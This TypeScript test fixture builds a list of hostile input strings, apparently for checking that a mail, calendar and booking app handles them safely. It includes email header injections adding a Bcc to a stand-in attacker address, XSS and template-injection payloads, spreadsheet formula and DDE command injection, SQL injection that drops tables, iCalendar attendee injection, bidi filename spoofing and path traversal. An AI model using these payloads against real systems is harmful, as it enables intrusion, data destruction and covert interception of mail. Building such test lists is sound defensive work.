const code = String.fromCharCode
const injected = [
  'Bcc: eve@evil.example',
  'Subject: Gotcha',
  'Content-Type: text/html',
  'To: eve@evil.example',
]

/** Line endings of every kind before a header of the sender's own. */
const headerInjections = [
  '\r\n',
  '\n',
  '\r',
  '\n\n',
  '\r\n\r\n',
  code(0x85),
  code(0x2028),
  code(0x0b),
].flatMap((ending) => injected.map((header) => `Ann${ending}${header}`))

const encodedInjections = [
  'Ann%0d%0aBcc: eve@evil.example',
  'Ann%0ABcc:%20eve@evil.example',
  'Ann\\r\\nBcc: eve@evil.example',
  '=?utf-8?Q?Ann=0D=0ABcc:_eve@evil.example?=',
  '=?utf-8?B?QW5uDQpCY2M6IGV2ZUBldmlsLmV4YW1wbGU=?=',
  '"Ann" <eve@evil.example>, <ann@good.example>',
  'Ann <eve@evil.example>',
  'ann@good.example, eve@evil.example',
]

const markup = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<svg/onload=alert(1)>',
  '</title><script>alert(1)</script>',
  '<iframe src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<!-- --><!doctype html>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  ['$', '{alert(1)}'].join(''),
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7 * 7 %>',
  '#{7*7}',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
]

const cells = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("evil.example")',
  '=cmd|" /C calc"!A0',
  '\t=1+1',
]

const queries = [
  "'; DROP TABLE users; --",
  "' OR '1'='1",
  '"; DELETE FROM mails; --',
  "Robert'); DROP TABLE demo_bookings;--",
  '$1; SELECT pg_sleep(10)',
  '%_%',
  '\\',
  "O'Neil",
]

const calendarLines = [
  'Ann;X=1',
  'Ann:mailto:eve@evil.example',
  'Ann"quoted"',
  'Ann,Bob;Carl:Dora',
  'Ann\\nATTENDEE:mailto:eve@evil.example',
  'Ann^nATTENDEE:mailto:eve@evil.example',
  'END:VEVENT',
  'BEGIN:VALARM',
]

const unseen = [
  ...[0x00, 0x01, 0x07, 0x08, 0x1b, 0x7f, 0x9f].map((point) => `A${code(point)}nn`),
  ...[0x202a, 0x202d, 0x202e, 0x2066, 0x2067, 0x2069].map((point) => `Ann${code(point)}gnp.exe`),
  ...[0xd800, 0xdfff].map((half) => `Ann${code(half)}`),
  `${code(0xdc00)}${code(0xd800)}`,
]

const unusual = [
  'محمد العربي',
  'שָׁלוֹם',
  'नमस्ते',
  '👩🏽‍🚀👨‍👩‍👧‍👦',
  `Z${'\u0300\u0301\u0302\u0303'.repeat(15)}`,
  'ﷺ',
  'x'.repeat(80),
  '../../etc/passwd',
  'NULL',
  '__proto__',
  '0',
]

export const hostileTexts: readonly string[] = [
  ...headerInjections,
  ...encodedInjections,
  ...markup,
  ...cells,
  ...queries,
  ...calendarLines,
  ...unseen,
  ...unusual,
  'x'.repeat(100_000),
  'x'.repeat(1_000_000),
  'two words '.repeat(100_000),
]
